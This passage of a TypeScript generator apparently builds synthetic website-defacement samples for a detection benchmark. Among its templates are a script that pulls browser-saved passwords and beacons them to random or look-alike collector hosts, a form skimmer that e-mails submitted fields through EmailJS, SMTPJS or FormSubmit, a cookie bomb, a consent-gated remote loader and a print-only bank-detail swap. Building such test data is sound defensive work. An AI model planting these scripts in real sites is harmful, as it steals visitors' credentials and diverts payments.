/**
 * Fresh15 defacement classes: written after round 14, by someone who does
 * not read the engines, from public descriptions of real defacements,
 * skimmers, phishing kits, SEO spam and scams. New techniques and
 * placements: an intruder's search-engine ownership verification tags with
 * a spam sitemap (Search Console takeover), a script asking the browser's
 * Credential Management API for saved passwords, a defacer's proof mark
 * left only in the source (meta author, a hidden element, a body
 * attribute), a defacer's message printed in the developer console, the
 * address bar rewritten to a "hacked-by" path by the History API, SEO spam
 * links inside an invisible inline SVG, a loader disguised as a
 * consent-managed analytics tag that runs once a visitor accepts cookies, a
 * print stylesheet that prints another bank account or phone number than
 * the screen shows, a skimmer that mails form fields through a browser
 * e-mail API (EmailJS, SMTPJS, FormSubmit), a "pay by cheque" line with
 * another payee and a mail drop, a cookie bomb that makes the site's own
 * server refuse every later request, the site's prices cut to a token
 * amount, hidden muted video players inflating another channel's views and
 * "your IP is exposed" VPN scareware; hacktivist presentations not used
 * before (a "wanted" poster of the organisation's director, a boycott list
 * with barcode prefixes, a fake endorsement of a candidate by the
 * organisation, a defacer's love letter); and scam and spam verticals not
 * used before ("undress" AI apps, surrogacy and baby packages, census
 * phishing, city escort listings, textbook test banks, stalkerware,
 * Brazilian "tigrinho" paying-hours schedules, steroids and SARMs, magic
 * mushrooms, streaming-subscription payment phishing, registered
 * vaccination certificates and phone unlocking of stolen devices). Each
 * differs from every class in defacements.ts and fresh-defacements.ts
 * through fresh14-defacements.ts (not a re-wording of one) and varies its
 * templates, languages, domains, positions and sizes. The writer had no
 * internet access: every source below is recalled from memory, with its
 * outlet and an approximate date where known, and its comment says so.
 * Scored in the `fresh15` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, cap, head, lineAfter, setAttr, siteOr, top } from "./classes.js"
import { type Page, makeBank, makeWallet, priceRe } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate, swapPhone } from "./locales.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample } from "./rng.js"
import { brandLookalike, libLookalike, nick, political, randomDomain, signature, slug, team } from "./words.js"

const fresh15 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh15", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script${chance(rng, 0.2) ? ` type="text/javascript"` : ""}>${pick(rng, [() => code, () => `(function(){${code}})();`, () => `window.addEventListener("load",function(){${code}});`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "vip", "org", "cc", "store", "bet", "fun"])
const chars = (rng: Rng, set: string, n: number) => Array.from({ length: n }, () => set.charAt(int(rng, set.length))).join("")
const B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
/** Where a script goes: end of head, top, middle or bottom of the body. */
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), top(page), bottom(page), slotAt(page.spots, "middle")])
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const someSpot = (rng: Rng, page: Page) => pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)])
/** A host a scam or a collector runs on: a themed name on a cheap TLD, a random domain, or a look-alike of the site. */
const host = (rng: Rng, page: Page, words: ReadonlyArray<string>) =>
  pick(rng, [() => `${pick(rng, words)}-${pick(rng, ["online", "portal", "secure", "center", "now", "app", "hub", "pay"])}.${tld(rng)}`, () => `${pick(rng, words)}${digits(rng, 2)}.${tld(rng)}`, () => randomDomain(rng), () => brandLookalike(rng, page.site.brand)])()
/** A collector endpoint for stolen data. */
const sink = (rng: Rng, page: Page) => `https://${pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["c", "api/v2/e", "p.php", "in", "s/" + alnum(rng, 5), "log", "k"])}`
const intlMobile = (rng: Rng) =>
  pick(rng, [
    () => `+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+44 7${digits(rng, 3)} ${digits(rng, 6)}`, () => `+234 8${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+62 8${digits(rng, 2)} ${digits(rng, 4)} ${digits(rng, 4)}`, () => `+91 9${digits(rng, 4)} ${digits(rng, 5)}`, () => `+380 ${pick(rng, ["50", "67", "93"])} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+63 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+55 11 9${digits(rng, 4)}-${digits(rng, 4)}`, () => `+971 5${digits(rng, 1)} ${digits(rng, 3)} ${digits(rng, 4)}`
  ])()
const waLink = (n: string) => `https://wa.me/${n.replace(/\D/g, "")}`
const wa = (rng: Rng) => {
  const n = intlMobile(rng)
  return `WhatsApp <a href="${waLink(n)}">${esc(n)}</a>`
}
const tgHandle = (rng: Rng, words: ReadonlyArray<string>) => `${pick(rng, words)}${pick(rng, ["_official", "_admin", "_support", digits(rng, 2), "bot", "_vip", "store"])}`
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "hotmail.com", "gmx.com", "mail.ru", "yandex.com"])
/** A box around a notice, in one of a few looks. */
const box = (rng: Rng, cls: ReadonlyArray<string>, accent: string, inner: string) =>
  `<div class="${pick(rng, cls)}" style="${pick(rng, [`border:2px solid ${accent};background:#fff;padding:14px 16px;margin:12px 0`, `border-left:6px solid ${accent};background:#f6f6f6;padding:12px 16px;margin:14px 0`, `border:1px solid ${accent};border-radius:10px;background:#fffdf7;padding:16px;margin:12px auto;max-width:720px`, `background:${accent};color:#fff;padding:14px 18px;margin:10px 0`])};font-family:${pick(rng, ["Arial,sans-serif", "Helvetica,Arial,sans-serif", "Verdana,sans-serif", "Georgia,serif", "system-ui,sans-serif", "Tahoma,sans-serif"])}">${inner}</div>`
const button = (rng: Rng, accent: string) => `background:${accent};color:#fff;border:0;padding:${pick(rng, ["8px 16px", "10px 22px", "6px 14px"])};border-radius:${pick(rng, ["0", "4px", "22px"])};cursor:pointer;text-decoration:none;display:inline-block`
const field = (name: string, ph: string, type = "text") => `<input type="${type}" name="${name}" placeholder="${esc(ph)}" style="display:block;margin:4px 0;padding:5px;width:90%;max-width:340px">`
type Table<A> = Partial<Record<Lang, A>> & { readonly en: A }
/** The site's language most of the time when there is a text for it, else English. */
const some = <A>(rng: Rng, page: Page, table: Table<A>): A => (chance(rng, 0.7) ? table[page.site.locale.lang] ?? table.en : table.en)
const personName = (rng: Rng) => `${pick(rng, ["Daniel", "Laura", "Marc", "Sofia", "Peter", "Ana", "Thomas", "Elena", "Martin", "Julia", "Paul", "Claire", "Jan", "Marta", "Luca", "Sarah"])} ${pick(rng, ["Keller", "Moreau", "Schmidt", "García", "de Vries", "Silva", "Rossi", "Walker", "Dubois", "Bakker", "Costa", "Fischer", "Martín", "Bianchi", "Hughes"])}`

// Search Console takeovers, recalled from memory of Sucuri's blog posts (about 2017–2019) on attackers who verified hacked sites as their own in Google Search Console with a verification meta tag, submitted sitemaps of spam pages and removed the real owners, and of the Google, Bing (msvalidate.01), Yandex, Baidu and Naver verification tags documented by each search engine: one to three verification tags of the intruder's accounts in the head, usually with a sitemap link to spam pages on the site or another host.
const searchConsoleClaim = fresh15("search-engine ownership verification tags of the intruder's accounts added to the head, with a sitemap of spam pages (Search Console takeover)", (page, rng) => {
  const kinds = sample(rng, ["google", "google", "bing", "yandex", "baidu", "naver"], between(rng, 1, 3))
  const tags = [...new Set(kinds)].map((k) => {
    switch (k) {
      case "google": return `<meta name="google-site-verification" content="${chars(rng, B64URL, 43)}" />`
      case "bing": return `<meta name="msvalidate.01" content="${hex(rng, 32).toUpperCase()}" />`
      case "yandex": return `<meta name="yandex-verification" content="${hex(rng, 16)}" />`
      case "baidu": return `<meta name="baidu-site-verification" content="code-${alnum(rng, 10)}" />`
      default: return `<meta name="naver-site-verification" content="${hex(rng, 40)}" />`
    }
  })
  if (chance(rng, 0.8)) {
    const file = `sitemap-${pick(rng, ["jp", "shop", "goods", "casino", "pharmacy", "brand", alnum(rng, 5)])}${pick(rng, ["", "-1", "_index"])}.xml`
    const href = pick(rng, [
      () => `/wp-content/uploads/${between(rng, 2019, 2025)}/${String(between(rng, 1, 12)).padStart(2, "0")}/${file}`,
      () => `/${pick(rng, ["cache", "tmp", "images", "media"])}/${alnum(rng, 6)}/${file}`,
      () => `https://${randomDomain(rng)}/sitemaps/${slug(page.site.brand)}/${file}`
    ])()
    tags.push(`<link rel="sitemap" type="application/xml" href="${esc(href)}">`)
  }
  return splices(insert(head(page), tags.join(pick(rng, ["", "\n"]))))
})

// Saved-password harvesting through the browser's own API, recalled from memory, with uncertain details, of the W3C Credential Management specification (PasswordCredential, shipped in Chrome about 2016) through which any script on an origin can ask for the password the browser saved for it, and of researchers' warnings (about 2016–2018) that an injected script could use it instead of a hidden login form: a script that asks navigator.credentials for a saved password on load, after a delay or on the first click, and sends what it gets to another host.
const savedPasswordApi = fresh15("script asking the browser's Credential Management API for the saved password and sending it to another host", (page, rng) => {
  const to = sink(rng, page)
  const send = pick(rng, [
    `navigator.sendBeacon(${js(to)},JSON.stringify({u:c.id,p:c.password,n:c.name||"",h:location.host}))`,
    `fetch(${js(to)},{method:"POST",mode:"no-cors",body:btoa(c.id+":"+c.password+"@"+location.host)})`,
    `(new Image).src=${js(to + "?d=")}+encodeURIComponent(btoa(c.id+"|"+c.password))`
  ])
  const get = `if(window.PasswordCredential&&navigator.credentials){navigator.credentials.get({password:true,mediation:${pick(rng, [`"silent"`, `"optional"`, `"silent"`])}}).then(function(c){if(c&&c.password){${send}}}).catch(function(){})}`
  const code = pick(rng, [
    () => get,
    () => `setTimeout(function(){${get}},${between(rng, 800, 6000)});`,
    () => `document.addEventListener("click",function f(){document.removeEventListener("click",f,true);${get}},true);`
  ])()
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Stealth marks, recalled from memory, with uncertain details, of defacement archives (Zone-H and its successors, about 2005–2024) where intruders who did not want to be noticed by the owner left only a mark in the source (a meta author or generator tag, a hidden element, an attribute) as proof of access, and of mass-defacement tools that append such a signature to every index file: one or two such marks, nothing visible on screen.
const stealthMark = fresh15("defacer's proof mark left only in the source: meta author or generator tag, hidden element or body attribute", (page, rng) => {
  const who = pick(rng, [nick(rng), nick(rng), team(rng)])
  const sig = pick(rng, [signature(rng, who).text, `${who} was here`, `Owned by ${who}`, `${who} | ${team(rng)}`])
  const body = page.spots.elements.find((e) => e.name === "body")
  const marks: Array<() => Splice> = [
    () => insert(head(page), `<meta name="${pick(rng, ["author", "generator", "owner", "copyright"])}" content="${esc(sig)}">`),
    () => {
      const tag = pick(rng, ["span", "div", "p"])
      return insert(pick(rng, [bottom(page), top(page)]), `<${tag} ${pick(rng, [`style="display:none"`, "hidden", `style="font-size:0;color:transparent"`])}>${esc(sig)}</${tag}>`)
    },
    () => insert(pick(rng, [bottom(page), top(page)]), `<div id="${esc(slug(who) || "x")}-${pick(rng, ["was-here", "owned", "hacked", "pwn"])}"></div>`),
    () => insert(pick(rng, [bottom(page), top(page)]), `<img src="https://${pick(rng, ["i.ibb.co", "i.imgur.com", "i.postimg.cc"])}/${alnum(rng, 7)}/${slug(who) || "mark"}.png" width="1" height="1" alt="${esc(sig)}" style="opacity:0;position:absolute">`)
  ]
  if (body !== undefined) marks.push(() => setAttr(page, body, `data-${pick(rng, ["owned", "hacked", "by", "x"])}`, who))
  const chosen = sample(rng, marks, between(rng, 1, 2))
  const out = chosen.map((m) => m())
  return { splices: out }
})

// Console signatures, recalled from memory, with uncertain sources, of defacements that leave the page as it was and sign only in the browser's developer console (seen by the administrators and researchers who open it), written with the %c styling that Facebook's "Stop!" self-XSS warning made familiar (about 2014): a script printing the defacer's signature in large coloured letters and a message, sometimes after clearing the console.
const consoleSignature = fresh15("defacer's signature and message printed in large styled text in the browser's developer console, page unchanged", (page, rng) => {
  const who = nick(rng)
  const sig = signature(rng, who).text
  const msg = pick(rng, [political(rng).text, `Patch your ${pick(rng, ["plugins", "server", "CMS", "panel"])}, admin. ${team(rng)}`, `${pick(rng, ["We are everywhere", "Expect us", "Your logs will not save you"])}. — ${team(rng)}`])
  const big = pick(rng, ["color:#e00;font-size:42px;font-weight:bold;text-shadow:2px 2px #000", "color:#0f0;background:#000;font-size:32px;font-family:monospace;padding:6px", "font-size:36px;font-weight:900;color:#fff;background:#c00;padding:4px 10px"])
  const lines = [
    chance(rng, 0.4) ? "console.clear();" : "",
    `console.log(${js("%c" + sig)},${js(big)});`,
    `console.log(${js("%c" + msg)},${js("font-size:16px;color:" + pick(rng, ["#c00", "#333", "#090"]))});`,
    chance(rng, 0.5) ? `console.log(${js(`Contact: ${pick(rng, ["t.me/", "Telegram @", "ICQ "])}${slug(who).replace(/-/g, "_") || "anon"}`)});` : "",
    chance(rng, 0.3) ? `console.warn(${js(`${brandName(page)} ${pick(rng, ["is owned", "was breached", "has no security"])}`)});` : ""
  ].join("")
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, lines)))
})

// Address-bar defacements, recalled from memory, with uncertain sources, of defacements that change only what the browser's address bar and tab show (the History API's replaceState and pushState, HTML5, about 2010 on, can set any path on the same origin without loading it), as screenshotted by defacers for archive submissions: a script rewriting the address to a "hacked-by" path, query or fragment, sometimes with the tab title.
const addressBarPath = fresh15("address bar rewritten to a 'hacked-by' path, query or fragment by the History API, page content unchanged", (page, rng) => {
  const who = nick(rng)
  const s = slug(who) || "anon"
  const path = pick(rng, [`/hacked-by-${s}`, `/owned/${s}`, `/${s}-was-here`, `/?hacked_by=${s}`, `/pwned-by-${s}.html`, `/${slug(team(rng))}`])
  const title = chance(rng, 0.4) ? `document.title=${js(signature(rng, who).text)};` : ""
  const code = pick(rng, [
    () => `history.replaceState(null,"",${js(path)});${title}`,
    () => `history.pushState({},"",${js(path)});${title}`,
    () => `location.hash=${js(pick(rng, [`hacked-by-${s}`, `owned_by_${s.replace(/-/g, "_")}`, `!/${s}`]))};${title}`,
    () => `setInterval(function(){if(location.pathname!==${js(path.split("?")[0]!)})history.replaceState(null,"",${js(path)})},${between(rng, 500, 2000)});${title}`
  ])()
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

const svgAnchors = [
  "cheap viagra online", "buy cialis 20mg", "online casino bonus", "slot gacor", "payday loans same day", "replica watches", "essay writing service", "buy tramadol",
  "crypto casino", "live betting odds", "cheap ugg boots", "buy instagram followers", "situs toto", "judi online", "オンラインカジノ", "bitcoin casino no kyc"
]

// Spam links inside inline SVG, recalled from memory, with uncertain sources, of SEO-spam cleanup write-ups (about 2016–2023) that found links hidden where page builders and cleanup scripts rarely look, and of search engines indexing links and text inside SVG (Google announced SVG indexing about 2010): an inline SVG of zero or one pixel, or one pushed off the screen, holding anchor elements with text pointing at spam sites.
const svgSpamLinks = fresh15("SEO spam links inside an invisible inline SVG (a and text elements, zero-sized or off-screen)", (page, rng) => {
  const n = between(rng, 3, 12)
  const hostOf = () => pick(rng, [randomDomain(rng), `${pick(rng, ["pharma", "casino", "slot", "loan", "bet", "rx"])}${digits(rng, 2)}.${tld(rng)}`])
  const attr = pick(rng, ["href", "xlink:href"])
  const links = Array.from({ length: n }, (_, i) => `<a ${attr}="https://${hostOf()}/${pick(rng, ["", "?ref=" + alnum(rng, 5), slug(pick(rng, svgAnchors)) + "/"])}"><text x="0" y="${(i + 1) * 12}" font-size="${pick(rng, [1, 10, 12])}">${esc(pick(rng, svgAnchors))}</text></a>`).join("")
  const ns = attr === "xlink:href" ? ` xmlns:xlink="http://www.w3.org/1999/xlink"` : ""
  const svg = pick(rng, [
    `<svg xmlns="http://www.w3.org/2000/svg"${ns} width="0" height="0" style="position:absolute">${links}</svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"${ns} width="1" height="1" viewBox="0 0 1 1" aria-hidden="true" class="${pick(rng, ["icon", "svg-sprite", "ico"])}">${links}</svg>`,
    `<svg${ns} style="position:absolute;left:-${between(rng, 2000, 9000)}px;top:0" width="${between(rng, 200, 400)}" height="${n * 14}">${links}</svg>`
  ])
  return splices(insert(pick(rng, [bottom(page), spamSpot(rng, page), top(page)]), svg))
})

// Loaders waiting behind consent, recalled from memory, with uncertain details, of consent managers' script-blocking markup (Cookiebot's type="text/plain" data-cookieconsent="statistics", OneTrust's optanon-category classes, CookieYes, Klaro and Orestbida's data-category and data-src, about 2018–2024), which the tool turns into a running script once the visitor accepts, and of web-skimming reports noting that scanners which never click "accept" never see such tags: a tag of another host written in one of these forms, so it runs only after consent.
const consentGatedLoader = fresh15("loader from another host disguised as a consent-managed analytics tag (type=text/plain, data-cookieconsent) that runs once cookies are accepted", (page, rng) => {
  const h = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const src = `https://${h}/${pick(rng, ["gtag/js?id=G-" + alnum(rng, 10).toUpperCase(), "analytics.js", "tag.min.js", "pixel/" + alnum(rng, 6) + ".js", "js/stats.js?v=" + digits(rng, 3)])}`
  const tag = pick(rng, [
    () => `<script type="text/plain" data-cookieconsent="${pick(rng, ["statistics", "marketing"])}" src="${esc(src)}" async></script>`,
    () => `<script type="text/plain" class="optanon-category-${pick(rng, ["C0002", "C0004"])}" src="${esc(src)}"></script>`,
    () => `<script type="text/plain" data-cookieyes="cookieyes-${pick(rng, ["analytics", "advertisement"])}" src="${esc(src)}"></script>`,
    () => `<script type="text/plain" data-category="${pick(rng, ["analytics", "marketing"])}" data-src="${esc(src)}"></script>`,
    () => `<script type="text/plain" data-type="application/javascript" data-name="${pick(rng, ["google-analytics", "matomo", "stats"])}" data-src="${esc(src)}"></script>`,
    () => `<script type="text/plain" data-cookieconsent="statistics">var s=document.createElement("script");s.src=${js(src)};document.head.appendChild(s);</script>`
  ])()
  return splices(insert(pick(rng, [head(page), head(page), bottom(page)]), tag))
})

/** Where the raw text of a visible run holds `needle`: the run and the offset of the hit. */
const findValue = (page: Page, needle: string, taken: ReadonlySet<number>): number | null => {
  for (const t of page.spots.texts) {
    const i = page.html.slice(t.start, t.end).indexOf(needle)
    if (i !== -1 && !taken.has(t.start + i)) return t.start + i
  }
  return null
}

// Print-only swaps, recalled from memory, with uncertain details, of invoice-redirection fraud (UK Finance and Action Fraud warnings, about 2017–2024, on invoices and payment pages whose bank details were altered) and of CSS print stylesheets (@media print, CSS2, 1998), which make a printed page differ from the screen: the site's bank account, wallet or phone wrapped so that the screen shows it and a printout shows another one, written in a style block or a print-only stylesheet.
const printOnlySwap = fresh15("print stylesheet hiding the site's bank account, wallet or phone and printing another in its place (screen unchanged)", (page, rng) => {
  const ids = page.ids
  const cands: Array<readonly [string, string]> = []
  if (ids.bank !== null) {
    const other = makeBank(rng, page.site.locale)
    if (other !== null && other.value !== ids.bank.value) cands.push([ids.bank.value, other.value])
  }
  if (ids.wallet !== null) cands.push([ids.wallet.address, makeWallet(rng, ids.wallet.coin).address])
  cands.push([ids.phone.national, swapPhone(page.site.locale, ids.phone, rng).national])
  if (chance(rng, 0.4)) cands.push([ids.phone.intl, swapPhone(page.site.locale, ids.phone, rng).intl])
  const chosen = cands.slice(0, between(rng, 1, cands.length))
  const a = `${pick(rng, ["v", "pv", "acct", "n"])}-${alnum(rng, 4)}`
  const b = `${pick(rng, ["p", "pr", "alt", "m"])}-${alnum(rng, 4)}`
  const out: Array<Splice> = []
  const taken = new Set<number>()
  for (const [mine, theirs] of chosen) {
    const at = findValue(page, mine, taken)
    if (at === null) continue
    taken.add(at)
    out.push(replace({ start: at, end: at + mine.length }, `<span class="${a}">${page.html.slice(at, at + mine.length)}</span><span class="${b}">${esc(theirs)}</span>`))
  }
  if (out.length === 0) out.push(insert(bottom(page), `<p class="${b}">${esc(chosen[0]![1])}</p>`))
  const css = `.${b}{display:none}@media print{.${a}{display:none!important}.${b}{display:inline!important}}`
  out.push(insert(pick(rng, [head(page), head(page), bottom(page)]), pick(rng, [`<style>${css}</style>`, `<style media="all">${css}</style>`, `<style>.${b}{display:none}</style><style media="print">.${a}{display:none!important}.${b}{display:inline!important}</style>`])))
  return { splices: out }
})

// Mail-sending skimmers, recalled from memory, with uncertain details, of phishing-kit analyses (about 2020–2024, by Trustwave, Cofense and others) that found harvested credentials sent from the browser through EmailJS, SMTPJS (Email.send with a SecureToken) or FormSubmit's AJAX endpoint, so no server of the attacker's appears: the service's library and a listener copying every submitted form of the page to the attacker's mailbox.
const mailApiSkimmer = fresh15("skimmer e-mailing every submitted form through a browser e-mail API (EmailJS, SMTPJS, FormSubmit) to the attacker's mailbox", (page, rng) => {
  const mailbox = `${pick(rng, ["logs", "rezult", "results", "boxx", "mr.office", "drop"])}${digits(rng, 3)}@${freeMail(rng)}`
  const collect = `var d={page:location.href};[].forEach.call(e.target.elements,function(i){if(i.name&&i.type!=="submit")d[i.name]=i.value});`
  const variant = int(rng, 3)
  let lib = ""
  let send = ""
  if (variant === 0) {
    lib = `<script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@${pick(rng, ["3", "4"])}/dist/email.min.js"></script>`
    send = `emailjs.init(${js(alnum(rng, 15))});emailjs.send(${js("service_" + alnum(rng, 7))},${js("template_" + alnum(rng, 7))},{to:${js(mailbox)},message:JSON.stringify(d)});`
  } else if (variant === 1) {
    lib = `<script src="https://smtpjs.com/v3/smtp.js"></script>`
    send = `Email.send({SecureToken:${js(`${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`)},To:${js(mailbox)},From:${js(mailbox)},Subject:location.host,Body:JSON.stringify(d)});`
  } else {
    send = `fetch(${js(`https://formsubmit.co/ajax/${mailbox}`)},{method:"POST",headers:{"Content-Type":"application/json",Accept:"application/json"},body:JSON.stringify(d)});`
  }
  const code = `document.addEventListener("submit",function(e){try{${collect}${send}}catch(x){}},true);`
  return splices(insert(pick(rng, [head(page), bottom(page), bottom(page)]), `${lib}<script>${code}</script>`))
})

const chequeWords: Record<Lang, (payee: string, addr: string) => string> = {
  en: (p, a) => `Paying by cheque? Make cheques payable to “${p}” and post them to ${a}.`,
  fr: (p, a) => `Paiement par chèque : libellez votre chèque à l'ordre de « ${p} » et envoyez-le à ${a}.`,
  de: (p, a) => `Zahlung per Scheck: bitte ausstellen auf „${p}“ und senden an ${a}.`,
  es: (p, a) => `¿Paga con cheque? Extiéndalo a nombre de «${p}» y envíelo a ${a}.`,
  nl: (p, a) => `Betalen per cheque? Schrijf de cheque uit op naam van '${p}' en stuur hem naar ${a}.`,
  pt: (p, a) => `Pagamento por cheque: nominal a “${p}”, enviado para ${a}.`,
  it: (p, a) => `Pagamento con assegno: intestato a «${p}» e spedito a ${a}.`
}

const mailDrop = (rng: Rng, country: string): string => {
  switch (country) {
    case "us": return `PO Box ${between(rng, 1000, 99999)}, ${pick(rng, ["Houston, TX 77", "Dallas, TX 75", "Miami, FL 33", "Atlanta, GA 30", "Newark, NJ 07"])}${digits(rng, 3)}`
    case "uk": return `PO Box ${between(rng, 100, 9999)}, ${pick(rng, ["London EC1V", "Manchester M1", "Birmingham B1", "London N1"])} ${digits(rng, 1)}${pick(rng, ["AB", "JD", "TX", "WQ"])}`
    case "au": return `PO Box ${between(rng, 100, 9999)}, ${pick(rng, ["Sydney NSW 2001", "Melbourne VIC 3001", "Brisbane QLD 4001"])}`
    case "in": return `Post Box No. ${between(rng, 100, 9999)}, ${pick(rng, ["Mumbai 400001", "New Delhi 110001", "Kolkata 700001"])}`
    case "fr": return `BP ${between(rng, 10, 999)}, ${pick(rng, ["75008 Paris", "93100 Montreuil", "13001 Marseille"])} Cedex`
    case "de": return `Postfach ${between(rng, 10000, 99999)}, ${pick(rng, ["10117 Berlin", "60311 Frankfurt", "20095 Hamburg"])}`
    case "nl": return `Postbus ${between(rng, 100, 99999)}, ${pick(rng, ["1000 AB Amsterdam", "3000 AC Rotterdam"])}`
    case "es": return `Apartado de Correos ${between(rng, 100, 9999)}, ${pick(rng, ["28080 Madrid", "08080 Barcelona"])}`
    case "it": return `Casella Postale ${between(rng, 100, 9999)}, ${pick(rng, ["00100 Roma", "20100 Milano"])}`
    default: return `Caixa Postal ${between(rng, 1000, 99999)}, ${pick(rng, ["São Paulo – SP", "Rio de Janeiro – RJ"])}`
  }
}

// Cheque redirection, recalled from memory of FinCEN's alert on mail-theft-related check fraud (February 2023) and of business-e-mail-compromise reports (FBI IC3, about 2016–2024) in which intruders change where payments go, including the payee and mailing address for cheques: a "paying by cheque" line beside the site's bank details naming another payee (a person, or a look-alike company name) and a post-office box.
const chequeMailDrop = fresh15("'paying by cheque' line with another payee and a post-office box added beside the site's bank details", (page, rng) => {
  const payee = pick(rng, [personName(rng), `${brandName(page)} ${pick(rng, ["Collections", "Payments Dept", "Holdings", "Services"])}`, `${pick(rng, ["JM", "AK", "RB", "DS"])} ${pick(rng, ["Consulting", "Trading", "Logistics"])} ${pick(rng, ["LLC", "Ltd", "GmbH", "SARL"])}`])
  const text = esc(siteOr(rng, page, chequeWords)(payee, mailDrop(rng, page.site.locale.country)))
  const needle = page.ids.bank?.value ?? page.ids.email
  const line = lineAfter(page, needle) ?? lineAfter(page, page.ids.phone.intl)
  if (line !== null) return splices(insert(line.at, line.wrap(text)))
  return splices(insert(noticeSpot(rng, page), `<p class="${pick(rng, ["payment-note", "cheques"])}">${text}</p>`))
})

// Cookie bombs, recalled from memory of Egor Homakov's write-up (about 2014) "Cookie bomb, or let's break the Internet", showing that a script which sets many large cookies for a domain makes its server answer every later request with an error (request headers too large) until the visitor clears them, and of later bug-bounty reports using it as a denial of service: a script setting dozens of cookies of several kilobytes for the site's path or its whole domain, once per visitor.
const cookieBomb = fresh15("cookie bomb: script filling the site's cookies with large values so its server rejects each visitor's later requests", (page, rng) => {
  const n = between(rng, 20, 60)
  const size = between(rng, 3000, 4090)
  const age = pick(rng, [31536000, 315360000, 2592000])
  const domain = chance(rng, 0.5) ? `;domain=.${page.site.domain}` : ""
  const name = pick(rng, ["_cb", "x", "__z", "a" + alnum(rng, 2), "_sess"])
  const fill = pick(rng, [`new Array(${size}).join("${pick(rng, ["x", "A", "0"])}")`, `"${pick(rng, ["x", "Z"])}".repeat(${size})`])
  const code = `if(document.cookie.indexOf(${js(name + "0=")})<0){var v=${fill};for(var i=0;i<${n};i++)document.cookie=${js(name)}+i+"="+v+";path=/;max-age=${age}${domain}"}`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Repricing by intruders, recalled from memory, with uncertain details, of reports (about 2015–2023, shop-platform forums and regional press) of shops whose admin panels were breached and prices set to a cent or zero before orders came in, and of "pricing errors" that turned out to be sabotage: the page's own prices changed to a token amount, nothing else touched.
const priceToken = fresh15("the page's own prices cut to a token amount (0.01, 1 or 0) by an intruder, nothing else changed", (page, rng) => {
  const re = new RegExp(priceRe.source, "g")
  const to = pick(rng, [0.01, 0.01, 1, 0, 0.1])
  const money = page.site.locale.money(to)
  const out: Array<Splice> = []
  const limit = between(rng, 1, 6)
  for (const t of page.spots.texts) {
    if (out.length >= limit) break
    const raw = page.html.slice(t.start, t.end)
    for (const m of raw.matchAll(re)) {
      if (out.length >= limit) break
      out.push(replace({ start: t.start + m.index!, end: t.start + m.index! + m[0].length }, esc(money)))
    }
  }
  if (out.length === 0) out.push(insert(noticeSpot(rng, page), `<p class="price">${esc(money)}</p>`))
  return { splices: out }
})

const wantedWords: Table<readonly [string, (who: string, org: string) => string, string, string]> = {
  en: ["WANTED", (w, o) => `${w}, director of ${o}, for corruption, theft of public money and lies to the people.`, "REWARD", "Anyone who knows where this criminal lives, contact us"],
  fr: ["RECHERCHÉ", (w, o) => `${w}, directeur de ${o}, pour corruption, détournement d'argent public et mensonges au peuple.`, "RÉCOMPENSE", "Si vous savez où vit ce criminel, contactez-nous"],
  es: ["SE BUSCA", (w, o) => `${w}, director de ${o}, por corrupción, robo de dinero público y mentiras al pueblo.`, "RECOMPENSA", "Si sabes dónde vive este criminal, contáctanos"],
  pt: ["PROCURADO", (w, o) => `${w}, diretor de ${o}, por corrupção, roubo de dinheiro público e mentiras ao povo.`, "RECOMPENSA", "Quem souber onde mora este criminoso, fale conosco"],
  de: ["GESUCHT", (w, o) => `${w}, Leiter von ${o}, wegen Korruption, Veruntreuung öffentlicher Gelder und Lügen.`, "BELOHNUNG", "Wer weiß, wo dieser Verbrecher wohnt, melde sich bei uns"],
  it: ["RICERCATO", (w, o) => `${w}, direttore di ${o}, per corruzione, furto di denaro pubblico e menzogne al popolo.`, "RICOMPENSA", "Chi sa dove vive questo criminale ci contatti"]
}

// "Wanted" posters, recalled from memory, with uncertain details, of hacktivist defacements of municipal, police and ministry sites (about 2012–2024, reported in the press of several countries) that put up a wanted-style poster of an official with the charges and a "reward", sometimes with home details, to shame or threaten: a poster with a photo frame, the director's name and the organisation, a reward and a contact, at the top or over the page.
const wantedPoster = fresh15("'WANTED' poster of the organisation's director with charges, a reward and a contact", (page, rng) => {
  const [h, charge, reward, ask] = some(rng, page, wantedWords)
  const who = personName(rng)
  const crew = team(rng)
